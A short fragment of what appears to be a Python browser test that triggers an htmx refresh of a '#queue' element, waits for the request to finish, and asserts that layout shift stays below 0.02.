    window.js("document.body.dispatchEvent(new Event('x')); htmx.trigger('#queue', 'refresh')")
    window.until(lambda: window.js("return document.querySelector('#queue .htmx-request') === null"))
    assert window.js("return window.__shift") < 0.02
